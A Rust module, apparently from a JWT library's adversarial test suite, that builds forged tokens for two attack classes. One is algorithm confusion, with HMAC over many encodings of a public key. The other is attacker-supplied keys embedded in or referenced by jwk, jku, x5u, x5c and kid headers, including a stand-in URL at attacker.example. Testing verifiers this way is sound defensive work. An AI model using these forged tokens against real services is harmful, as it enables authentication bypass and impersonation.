//! Attacks by other keys: the public key taken for a secret, and keys that the token brings along.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use cerrojo_domain::KeyId;
use ring::{digest, hmac};
use serde_json::{Value, json};

use super::{Forge, Hostile, attackers_key, with};
use crate::keys::{Algorithm, VerifyingKey};

pub(super) fn attacks(forge: &Forge<'_>) -> Vec<Hostile> {
    let mut all = confusion(forge);
    all.extend(foreign_keys(forge));
    all
}

/// HMAC over what an attacker knows of a public key, in the hope that it is taken for a shared secret (RFC 8725, 2.1).
fn confusion(forge: &Forge<'_>) -> Vec<Hostile> {
    let Some((public, der)) = public_half(forge.key) else { return Vec::new() };
    let kid = KeyId::from_text(forge.header.get("kid").and_then(Value::as_str).unwrap_or_default());
    let jwk = forge.key.to_jwk(&kid).unwrap_or_default();
    let base64 = STANDARD.encode(&der);
    let lines: Vec<String> =
        base64.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"));
    let mut secrets: Vec<(String, Vec<u8>)> = [
        ("public half", public.clone()),
        ("public half in hexadecimal", public.iter().flat_map(|byte| format!("{byte:02x}").into_bytes()).collect()),
        ("public half in base64", STANDARD.encode(&public).into_bytes()),
        ("public half in base64url", URL_SAFE_NO_PAD.encode(&public).into_bytes()),
        ("DER", der),
        ("DER in base64", base64.clone().into_bytes()),
        ("PEM", pem.clone().into_bytes()),
        ("PEM without its last newline", pem.trim_end().as_bytes().to_vec()),
        ("PEM with carriage returns", pem.replace('\n', "\r\n").into_bytes()),
        ("JWK", jwk.to_string().into_bytes()),
        ("JWK set", json!({ "keys": [jwk] }).to_string().into_bytes()),
        ("thumbprint", digest::digest(&digest::SHA256, jwk.to_string().as_bytes()).as_ref().to_vec()),
        ("kid", kid.as_str().as_bytes().to_vec()),
        ("nothing", Vec::new()),
    ]
    .map(|(name, secret)| (name.to_owned(), secret))
    .into();
    for member in ["x", "y", "n", "e"] {
        if let Some(text) = jwk.get(member).and_then(Value::as_str) {
            secrets.push((format!("{member} of the JWK as text"), text.as_bytes().to_vec()));
        }
    }
    if let VerifyingKey::Es256(point) = forge.key {
        secrets.extend(of_curve(point));
    }
    let mut all = Vec::new();
    for alg in [Algorithm::Hs256, forge.key.algorithm()].map(Algorithm::name) {
        let header = URL_SAFE_NO_PAD.encode(forge.header_with("alg", Some(json!(alg))).to_string());
        let input = format!("{header}.{}", forge.parts().1);
        for (name, secret) in &secrets {
            let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
            let token = format!("{input}.{}", URL_SAFE_NO_PAD.encode(mac));
            all.push((format!("key confusion under {alg}: {name}"), token));
        }
    }
    all
}

/// The parts of a point (SEC 1, section 2.3.3).
fn of_curve(point: &[u8]) -> Vec<(String, Vec<u8>)> {
    let coordinates = point.get(1..).unwrap_or_default();
    let x: Vec<u8> = coordinates.iter().take(32).copied().collect();
    let compressed = [&[2 + (point.last().copied().unwrap_or_default() & 1)], x.as_slice()].concat();
    vec![
        ("point without its first byte".to_owned(), coordinates.to_vec()),
        ("x alone".to_owned(), x),
        ("compressed point".to_owned(), compressed),
    ]
}

/// The public half as it is kept, and as `SubjectPublicKeyInfo` (RFC 5280, section 4.1.2.7); `None` for a shared secret.
fn public_half(key: &VerifyingKey) -> Option<(Vec<u8>, Vec<u8>)> {
    Some(match key {
        VerifyingKey::Hs256(_) => return None,
        VerifyingKey::Es256(point) => {
            // id-ecPublicKey on secp256r1 (RFC 5480).
            let algorithm = [
                0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce,
                0x3d, 0x03, 0x01, 0x07,
            ];
            (point.clone(), key_info(&algorithm, point))
        }
        VerifyingKey::Ed25519(point) | VerifyingKey::EdDsa(point) => {
            // id-Ed25519 (RFC 8410).
            (point.clone(), key_info(&[0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70], point))
        }
        VerifyingKey::Rs256(modulus) => {
            // rsaEncryption (RFC 8017, appendix A.1).
            let algorithm = [0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00];
            let numbers = [tagged(0x02, &[&[0], modulus.as_slice()].concat()), tagged(0x02, &[1, 0, 1])].concat();
            (modulus.clone(), key_info(&algorithm, &tagged(0x30, &numbers)))
        }
    })
}

fn key_info(algorithm: &[u8], key: &[u8]) -> Vec<u8> {
    tagged(0x30, &[algorithm, &tagged(0x03, &[&[0], key].concat())].concat())
}

/// A value in DER (X.690, section 8.1), shorter than 64 KiB.
fn tagged(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = match content.len() {
        short @ 0..0x80 => vec![u8::try_from(short).unwrap_or_default()],
        long => {
            let bytes: Vec<u8> = long.to_be_bytes().into_iter().skip_while(|byte| *byte == 0).collect();
            [vec![0x80 | u8::try_from(bytes.len()).unwrap_or_default()], bytes].concat()
        }
    };
    [&[tag], length.as_slice(), content].concat()
}

/// Signed with a key of the attacker's own, which the header brings along or points to (RFC 8725, section 2.10).
fn foreign_keys(forge: &Forge<'_>) -> Vec<Hostile> {
    let own = forge.key.algorithm();
    let algorithm = if own == Algorithm::Hs256 { Algorithm::Es256 } else { own };
    let Some(key) = attackers_key(algorithm) else { return Vec::new() };
    let kid = KeyId::from_text(forge.header.get("kid").and_then(Value::as_str).unwrap_or_default());
    let jwk = key.verifying_key().to_jwk(&kid).unwrap_or_default();
    let certificate = public_half(key.verifying_key()).map(|(_, der)| STANDARD.encode(der)).unwrap_or_default();
    let address = json!("https://attacker.example/jwks.json");
    let mut all = Vec::new();
    for (name, members) in [
        ("our kid", vec![]),
        ("embedded", vec![("jwk", jwk.clone())]),
        ("embedded, with another kid", vec![("jwk", jwk.clone()), ("kid", json!("attacker"))]),
        ("embedded, without kid", vec![("jwk", jwk.clone()), ("kid", Value::Null)]),
        ("by jku", vec![("jku", address.clone())]),
        ("by x5u", vec![("x5u", address.clone())]),
        ("in x5c", vec![("x5c", json!([certificate]))]),
        ("by kid", vec![("kid", address.clone())]),
        ("as kid", vec![("kid", jwk.clone())]),
    ] {
        let header =
            members.into_iter().fold(forge.header_with("alg", Some(json!(algorithm))), |header, (member, value)| {
                with(&header, &[member], Some(value))
            });
        let input = format!("{}.{}", URL_SAFE_NO_PAD.encode(header.to_string()), forge.parts().1);
        if let Some(signature) = key.sign(&input) {
            let token = format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature));
            all.push((format!("the attacker's key: {name}"), token));
        }
    }
    all
}
